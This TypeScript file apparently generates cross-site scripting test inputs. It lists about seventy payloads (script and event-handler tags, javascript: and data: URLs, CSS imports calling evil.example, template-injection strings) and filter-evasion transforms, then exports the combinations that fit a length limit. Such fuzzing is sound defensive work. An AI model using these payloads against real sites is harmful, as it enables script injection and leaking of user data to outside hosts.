// Texts that would run something or fetch something if a page took them for markup, script, style or an address. What runs is `hit()`,
// what is fetched is at evil.example.

/** Short, so that most of them fit into a name in every disguise. */
const vectors: readonly string[] = [
  '<script>hit()</script>',
  '<script src=//evil.example></script>',
  '<script src=data:,hit()></script>',
  '<img src=x onerror=hit()>',
  '<img src=//evil.example/i>',
  '<img srcset=//evil.example/i>',
  '<image src=x onerror=hit()>',
  '<svg onload=hit()>',
  '<svg/onload=hit()>',
  '<svg><script>hit()</script>',
  '<svg><animate onbegin=hit()>',
  '<svg><image href=//evil.example>',
  '<svg><use href=//evil.example#a>',
  '<math href=javascript:hit()>x',
  '<body onload=hit()>',
  '<body background=//evil.example>',
  '<iframe src=javascript:hit()>',
  '<iframe srcdoc="<script>hit()</script>">',
  '<iframe src=//evil.example>',
  '<object data=javascript:hit()>',
  '<object data=//evil.example>',
  '<embed src=//evil.example>',
  '<video src=x onerror=hit()>',
  '<video poster=//evil.example/p>',
  '<video><source onerror=hit()>',
  '<audio src=x onerror=hit()>',
  '<audio src=//evil.example/a>',
  '<input autofocus onfocus=hit()>',
  '<input type=image src=//evil.example>',
  '<select autofocus onfocus=hit()>',
  '<textarea autofocus onfocus=hit()>',
  '<button autofocus onfocus=hit()>',
  '<a href=javascript:hit()>x</a>',
  '<a href=x onclick=hit()>x</a>',
  '<a ping=//evil.example href=/>x',
  '<form action=javascript:hit()>',
  '<button formaction=javascript:hit()>',
  '<details open ontoggle=hit()>',
  '<dialog open onclose=hit()>',
  '<marquee onstart=hit()>',
  '<div onpointerenter=hit()>x',
  '<b style=color:red onclick=hit()>x',
  "<style>@import'//evil.example'</style>",
  '<style>*{background:url(//evil.example)}',
  '<link rel=stylesheet href=//evil.example>',
  '<link rel=preload as=image href=//evil.example>',
  '<meta http-equiv=refresh content=0;//evil.example>',
  '<base href=//evil.example>',
  '<template><img src=x onerror=hit()>',
  '<noscript><img src=x onerror=hit()>',
  '<table background=//evil.example>',
  '<x tabindex=1 autofocus onfocus=hit()>',
  '<x contenteditable onblur=hit()>',
  'javascript:hit()',
  'javascript://%0ahit()',
  'data:text/html,<script>hit()</script>',
  'vbscript:hit()',
  'http://evil.example/"onclick="hit()',
  "https://evil.example/'onclick='hit()",
  'https://evil.example/<img src=x onerror=hit()>',
  'https://hit()@evil.example/',
  '//evil.example/i.png',
  "';hit();//",
  '";hit();//',
  '`-hit()-`',
  '${hit()}',
  '{{constructor.constructor("hit()")()}}',
  '{name}{text}{title}{host}',
  '__proto__[onerror]=hit()',
];

/** Ways out of where a text may stand, and ways past what may look at it. */
const disguises: readonly ((vector: string) => string)[] = [
  (vector) => vector,
  (vector) => `">${vector}`,
  (vector) => `</title>${vector}`,
  (vector) => `</script>${vector}`,
  (vector) => vector.replace(/hit\(\)|[a-z]/g, (found, at: number) => inMixedCase(found, at)),
  (vector) => vector.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (vector) => vector.replaceAll('<', '\\u003c').replaceAll(':', '\\x3a'),
  (vector) => vector.replaceAll('<', '＜').replaceAll('>', '＞'),
  (vector) => vector.replaceAll(' on', '/on').replaceAll('<', '<\u200b'),
];

function inMixedCase(found: string, at: number): string {
  return found === 'hit()' || at % 2 === 0 ? found : found.toUpperCase();
}

/** All that fit into so many characters, each once. */
export function attacks(limit: number): readonly string[] {
  const all = disguises.flatMap((disguise) => vectors.map(disguise));
  return [...new Set(all)].filter((attack) => attack.length <= limit);
}
